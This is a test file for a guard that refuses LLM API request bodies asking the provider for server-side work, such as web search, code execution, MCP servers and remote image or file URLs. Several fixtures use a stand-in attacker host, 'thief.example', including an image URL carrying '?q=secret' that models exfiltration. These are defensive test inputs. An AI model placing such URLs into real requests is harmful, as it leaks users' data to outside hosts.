import type { WireFormat } from '../WireFormat';
import { checkServerWork } from './checkServerWork';

it.each<[WireFormat, string, object]>([
  [
    'anthropic',
    'web_search_20250305',
    { tools: [{ type: 'web_search_20250305' }] },
  ],
  [
    'anthropic',
    'web_fetch_20250910',
    { tools: [{ type: 'web_fetch_20250910' }] },
  ],
  [
    'anthropic',
    'code_execution_20250825',
    { tools: [{ type: 'code_execution_20250825' }] },
  ],
  [
    'anthropic',
    'mcp_servers',
    { mcp_servers: [{ url: 'https://thief.example' }] },
  ],
  [
    'anthropic',
    'source',
    {
      messages: [
        {
          content: [
            {
              type: 'image',
              source: { type: 'url', url: 'https://thief.example/?q=secret' },
            },
          ],
        },
      ],
    },
  ],
  [
    'anthropic',
    'file_id',
    {
      messages: [
        {
          content: [
            { type: 'document', source: { type: 'file', file_id: 'f' } },
          ],
        },
      ],
    },
  ],
  [
    'responses',
    'web_search',
    {
      tools: [
        {
          type: 'namespace',
          name: 'mcp__skein',
          tools: [{ type: 'function', name: 'verify' }, { type: 'web_search' }],
        },
      ],
    },
  ],
  [
    'responses',
    'web_search',
    { tools: [{ type: 'function', name: 'a' }, { type: 'web_search' }] },
  ],
  [
    'responses',
    'mcp',
    { tools: [{ type: 'mcp', server_url: 'https://thief.example' }] },
  ],
  ['responses', 'code_interpreter', { tools: [{ type: 'code_interpreter' }] }],
  ['responses', 'previous_response_id', { previous_response_id: 'resp_1' }],
  ['responses', 'background', { background: true }],
  [
    'responses',
    'image_url',
    {
      input: [
        {
          content: [
            {
              type: 'input_image',
              image_url: 'https://thief.example/?q=secret',
            },
          ],
        },
      ],
    },
  ],
  [
    'responses',
    'file_url',
    {
      input: [
        {
          content: [{ type: 'input_file', file_url: 'https://thief.example' }],
        },
      ],
    },
  ],
  ['chat', 'web_search_options', { web_search_options: {} }],
  [
    'chat',
    'image_url',
    {
      messages: [
        {
          content: [
            { type: 'image_url', image_url: { url: 'https://thief.example' } },
          ],
        },
      ],
    },
  ],
  ['gemini', 'googleSearch', { tools: [{ googleSearch: {} }] }],
  [
    'gemini',
    'urlContext',
    { tools: [{ functionDeclarations: [], urlContext: {} }] },
  ],
  ['gemini', 'codeExecution', { tools: [{ codeExecution: {} }] }],
  [
    'gemini',
    'fileData',
    { contents: [{ parts: [{ fileData: { fileUri: 'gs://x' } }] }] },
  ],
  ['gemini', 'cachedContent', { cachedContent: 'cachedContents/1' }],
])('%s: refuses %s', (format, name, body) => {
  expect(checkServerWork(format, { ...body })).toContain(`'${name}' `);
});

it.each<[WireFormat, object]>([
  [
    'anthropic',
    {
      tools: [{ name: 'read' }, { type: 'bash_20250124', name: 'bash' }],
      messages: [{ content: 'see https://acme.example' }],
    },
  ],
  [
    'anthropic',
    {
      messages: [
        {
          content: [
            { type: 'tool_use', input: { url: 'https://acme.example' } },
          ],
        },
      ],
      mcp_servers: [],
    },
  ],
  [
    'responses',
    {
      tools: [
        { type: 'function', name: 'shell' },
        { type: 'custom', name: 'apply_patch' },
      ],
      background: false,
    },
  ],
  ['chat', { tools: [{ type: 'function', function: { name: 'read' } }] }],
  [
    'chat',
    {
      messages: [
        {
          content: [
            {
              type: 'image_url',
              image_url: { url: 'data:image/png;base64,AA==' },
            },
          ],
        },
      ],
    },
  ],
  [
    'gemini',
    {
      tools: [{ functionDeclarations: [{ name: 'read' }] }],
      contents: [{ parts: [{ functionCall: { args: { fileUri: 'x' } } }] }],
    },
  ],
])('%s: lets pass what only the agent works on (%#)', (format, body) => {
  expect(checkServerWork(format, { ...body })).toBeUndefined();
});
